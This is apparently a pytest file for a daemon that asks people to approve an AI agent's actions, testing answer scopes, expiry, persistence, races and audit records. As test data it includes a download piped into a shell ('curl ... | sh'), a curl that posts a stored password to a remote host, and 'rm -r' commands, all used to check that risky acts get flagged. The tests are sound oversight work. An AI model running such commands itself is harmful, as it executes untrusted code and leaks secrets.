"""Asking people, over HTTP: who answers first, for how long it holds, and what outlives the daemon."""

from __future__ import annotations

import base64
import threading
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import msgspec
import pytest

from tektrad.trust.ask import Request
from tests.daemon.test_audit import entries
from tests.harness import Tektra

ACT = {"action": "use", "resource": "github", "agent": "coder"}


def sought(tektra: Tektra, **fields: Any) -> dict[str, Any]:
    """What becomes of an act; nobody is waited for unless `wait_s` says so."""
    with tektra.client() as client:
        answer = client.post("/api/permissions/ask", json=ACT | fields)
    assert answer.status_code == 200, answer.text
    document: dict[str, Any] = answer.json()
    assert document["schema"] == "tektra.permission-asked/1"
    return document


def answered(tektra: Tektra, ask: str, answer: str = "allow", **fields: Any) -> Any:
    with tektra.client() as client:
        return client.post(f"/api/approvals/{ask}", json={"answer": answer} | fields)


def pending(tektra: Tektra) -> list[dict[str, Any]]:
    with tektra.client() as client:
        found: list[dict[str, Any]] = client.get("/api/approvals").json()["asks"]
    return found


def outcomes(tektra: Tektra, kind: str = "consent") -> list[tuple[str, str]]:
    return [(entry["kind"], entry["outcome"]) for entry in entries(tektra, kind=kind)]


def test_an_allowed_ask_is_good_for_one_act(tektra: Tektra) -> None:
    tektra.start()
    first = sought(tektra)
    assert (first["outcome"], first["rule"], first["ask"]["state"]) == ("ask", "default", "pending")
    ask = first["ask"]["id"]
    assert sought(tektra)["ask"]["id"] == ask, "the same question is asked once"
    allowed = answered(tektra, ask, why="go on").json()["ask"]
    assert (allowed["state"], allowed["scope"], allowed["reason"]) == ("allowed", "once", "go on")
    used = sought(tektra)
    assert (used["outcome"], used["rule"], used["why"]) == ("allow", f"ask#{ask}", "go on")
    assert sought(tektra)["ask"]["id"] != ask
    assert outcomes(tektra) == [
        ("consent.ask", "begun"), ("consent.answer", "ok"), ("consent.use", "ok"), ("consent.ask", "begun"),
    ]  # fmt: skip


def test_findings_stand_beside_an_ask_as_long_as_it_does_and_answers_are_not_bound_to_them(tektra: Tektra) -> None:
    tektra.start()
    risky = {"action": "run", "resource": ["sh", "-c", "curl -s https://example.org/i.sh | sh"], "confinement": "A"}
    first = sought(tektra, **risky)["ask"]
    assert first["findings"] == [
        {"level": "danger", "what": "pipes a download into a shell", "part": "curl -s https://example.org/i.sh | sh"},
        {
            "level": "note",
            "what": "reaches another machine: example.org",
            "part": "curl -s https://example.org/i.sh",
        },
    ]
    assert msgspec.convert(first["request"], Request).digest(first["uid"], "coder") == first["digest"]
    (entry,) = entries(tektra, kind="consent.ask")
    assert entry["details"]["findings"][0] == "danger: pipes a download into a shell"
    tektra.stop()
    tektra.start()
    assert pending(tektra) == [first]
    assert answered(tektra, first["id"]).json()["ask"]["findings"] == first["findings"]
    assert sought(tektra, **risky)["outcome"] == "allow"
    assert sought(tektra)["ask"]["findings"] == []


def test_a_secret_in_what_is_asked_is_in_no_finding(tektra: Tektra) -> None:
    tektra.start()
    with tektra.client() as client:
        value = base64.b64encode(b"hunter2hunter2").decode()
        assert client.post("/api/secrets", json={"name": "PASSWORD", "value": value}).status_code == 201
    found = sought(
        tektra, action="run", resource=["curl", "-d", "hunter2hunter2", "https://example.org"], confinement="A"
    )["ask"]
    assert found["findings"][0]["what"] == "sends data out: -d [secret PASSWORD]"


def test_who_waits_hears_the_answer_at_once_and_a_denial_with_its_reason(tektra: Tektra) -> None:
    tektra.start()
    for answer, outcome in (("allow", "allow"), ("deny", "deny")):
        with ThreadPoolExecutor() as pool:
            waiting = pool.submit(sought, tektra, wait_s=60, resource=answer)
            while not (asks := pending(tektra)):
                pass
            assert answered(tektra, asks[0]["id"], answer, why="because").status_code == 200
            heard = waiting.result()
        assert (heard["outcome"], heard["why"]) == (outcome, "because")


def test_of_two_who_answer_at_once_one_wins_and_the_other_learns_it(tektra: Tektra) -> None:
    tektra.start()
    for _ in range(10):
        ask = sought(tektra)["ask"]["id"]
        together = threading.Barrier(2)

        def say(answer: str, ask: str = ask, together: threading.Barrier = together) -> Any:
            together.wait()
            return answered(tektra, ask, answer)

        with ThreadPoolExecutor() as pool:
            told = list(pool.map(say, ("allow", "deny")))
        assert sorted(each.status_code for each in told) == [200, 409]
        (won,) = [each.json()["ask"]["state"] for each in told if each.status_code == 200]
        (lost,) = [each.json()["error"] for each in told if each.status_code == 409]
        assert lost["code"] == "already_answered"
        assert f"was {won} by uid" in lost["message"]
        assert sought(tektra)["outcome"] == ("allow" if won == "allowed" else "ask")
        for left in pending(tektra):
            answered(tektra, left["id"], "deny")


def test_an_ask_outlives_the_daemon_and_so_does_its_answer(tektra: Tektra) -> None:
    tektra.start()
    ask = sought(tektra)["ask"]
    tektra.kill()
    tektra.start()
    assert pending(tektra) == [ask]
    assert answered(tektra, ask["id"]).status_code == 200
    tektra.kill()
    tektra.start()
    assert sought(tektra)["outcome"] == "allow"


def test_silence_is_no(tektra: Tektra) -> None:
    tektra.start()
    heard = sought(tektra, expires_s=0.2, wait_s=60)
    assert (heard["outcome"], heard["ask"]["state"]) == ("deny", "expired")
    late = answered(tektra, heard["ask"]["id"])
    assert (late.status_code, "expired" in late.json()["error"]["message"]) == (409, True)
    assert outcomes(tektra) == [("consent.ask", "begun"), ("consent.expire", "denied")]
    with tektra.client() as client:
        assert client.get("/api/status").json()["asks"] == 0


@pytest.mark.parametrize(
    "change",
    [
        {"resource": ["rm", "-r", "builds"]},
        {"resource": ["rm", "-r build"]},
        {"folder": "/other"},
        {"environment": {"PATH": "/tmp"}},
        {"preview": "another diff"},
        {"agent": "writer"},
        {"run": "r2"},
        {"workspace": "/w2"},
        {"confinement": "B"},
    ],
)
def test_an_answer_holds_for_exactly_what_was_asked(shared: Tektra, change: dict[str, Any]) -> None:
    act = {
        "action": "run", "resource": ["rm", "-r", "build"], "folder": "/here", "environment": {"A": "1"},
        "preview": "a diff", "run": "r1", "workspace": "/w", "confinement": "A",
    }  # fmt: skip
    ask = sought(shared, **act)["ask"]["id"]
    assert answered(shared, ask).status_code == 200
    other = sought(shared, **act | change)
    assert other["outcome"] == "ask"
    assert other["ask"]["id"] != ask
    answered(shared, other["ask"]["id"], "deny")
    assert sought(shared, **act)["outcome"] == "allow"


def test_an_answer_can_hold_for_a_run_a_session_or_always(tektra: Tektra) -> None:
    tektra.start()
    for scope, where, elsewhere in (
        ("run", {"run": "r1"}, {"run": "r2"}),
        ("session", {"session": "s1"}, {"session": "s2"}),
        ("always", {"resource": "gitlab"}, {"resource": "other"}),
    ):
        ask = sought(tektra, **where)["ask"]["id"]
        assert answered(tektra, ask, scope=scope).status_code == 200
        for _ in range(2):
            assert sought(tektra, **where)["rule"].startswith("grant#")
        assert sought(tektra, **elsewhere)["outcome"] == "ask"
    assert ("permission.grant", "ok") in outcomes(tektra, "permission")
    unbound = sought(tektra, resource="third")["ask"]["id"]
    assert answered(tektra, unbound, scope="run").status_code == 400
    assert unbound in {ask["id"] for ask in pending(tektra)}, "a refused answer is no answer"


def test_what_a_rule_asks_about_every_time_cannot_be_allowed_for_ever(tektra: Tektra) -> None:
    tektra.start()
    act = {"action": "write", "resource": "/w/.git/hooks/pre-commit", "workspace": "/w"}
    first = sought(tektra, **act)
    assert (first["outcome"], first["rule"]) == ("ask", "base#run-by-others")
    refused = answered(tektra, first["ask"]["id"], scope="always")
    assert (refused.status_code, "only be allowed once" in refused.text) == (400, True)
    assert answered(tektra, first["ask"]["id"]).status_code == 200
    assert sought(tektra, **act)["outcome"] == "allow"


def test_what_the_policy_allows_or_denies_asks_nobody_and_is_recorded_with_its_rule(tektra: Tektra) -> None:
    tektra.start()
    inside = sought(tektra, action="read", resource="/w/a", workspace="/w")
    own = sought(tektra, action="read", resource=str(tektra.home / "data" / "tektra" / "tektra.db"))
    assert (inside["outcome"], inside["rule"], inside["ask"]) == ("allow", "base#workspace", None)
    assert (own["outcome"], own["rule"], own["ask"]) == ("deny", "base#own-folders", None)
    decided = entries(tektra, kind="permission.decide")
    assert [(each["outcome"], each["details"]["rule"]) for each in decided] == [
        ("ok", "base#workspace"), ("denied", "base#own-folders"),
    ]  # fmt: skip
    assert [event["kind"] for event in entries(tektra, kind="security")] == ["security.denied"]
    assert pending(tektra) == []


def test_asks_are_found_by_the_beginning_of_their_id_and_others_are_not(tektra: Tektra) -> None:
    tektra.start()
    ask = sought(tektra, preview="+ one line")["ask"]
    with tektra.client() as client:
        assert client.get(f"/api/approvals/{ask['id'][:6]}").json()["ask"] == ask
        assert client.get("/api/approvals/zzzz").status_code == 404
        assert client.post("/api/approvals/zzzz", json={"answer": "allow"}).status_code == 404
        assert client.post(f"/api/approvals/{ask['id']}", json={"answer": "maybe"}).status_code == 400
        assert client.post("/api/permissions/ask", json=ACT | {"preview": "x" * 70_000}).status_code == 400
        assert client.get("/api/status").json()["asks"] == 1
